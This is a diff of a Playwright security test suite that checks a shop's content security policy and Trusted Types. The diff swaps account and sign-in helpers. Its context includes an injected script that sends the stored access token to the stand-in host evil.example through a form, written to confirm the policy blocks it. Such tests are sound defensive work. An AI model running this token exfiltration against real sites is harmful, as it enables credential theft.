@@ -1,9 +1,9 @@
 /** The second line of defence: what the content security policy and Trusted Types stop after an injection succeeds. */
 import { expect, type Page } from '@playwright/test';
 import { expects, observe } from '../../harness/scenario';
-import { registerAccount } from '../support/accounts';
+import { createAccount } from '../../harness/api-accounts';
 import { hasRun } from '../support/markup';
-import { signInOnPage } from '../support/sign-in-form';
+import { logIn } from '../../harness/sign-in';
 import { test } from '../target';
 
 /** Markup that a page could reflect; each line runs code or sends a request in its own way. */
@@ -84,10 +84,10 @@ test(
   `text turned into code or markup in ${String(Object.keys(sinks).length)} ways`,
   expects('each throws; nothing runs or is requested'),
   async ({ target: { shop }, newVisitor }) => {
-    const buyer = await registerAccount(shop, 'buyer');
+    const buyer = await createAccount(shop, 'buyer');
     const page = await newVisitor();
     const requested = await recordRequestsToAttacker(page);
-    await signInOnPage(page, shop, buyer.email);
+    await logIn(page, buyer.email);
     for (const [name, expression] of Object.entries(sinks)) {
       // Code that evaluate runs at once bypasses the policy; after a timer the page's policy applies.
       const nextTask = 'await new Promise((resolve) => setTimeout(resolve))';
@@ -104,10 +104,10 @@ test(
   'access token sent to another origin by an injected script: fetch, beacon, form, event source',
   expects('the policy allows requests to the shop only'),
   async ({ target: { shop }, newVisitor }) => {
-    const buyer = await registerAccount(shop, 'buyer');
+    const buyer = await createAccount(shop, 'buyer');
     const page = await newVisitor();
     const requested = await recordRequestsToAttacker(page);
-    await signInOnPage(page, shop, buyer.email);
+    await logIn(page, buyer.email);
     const outcome = await page.evaluate(() => {
       const address = `https://evil.example/?${String(localStorage.getItem('access-token'))}`;
       const form = document.body.appendChild(document.createElement('form'));
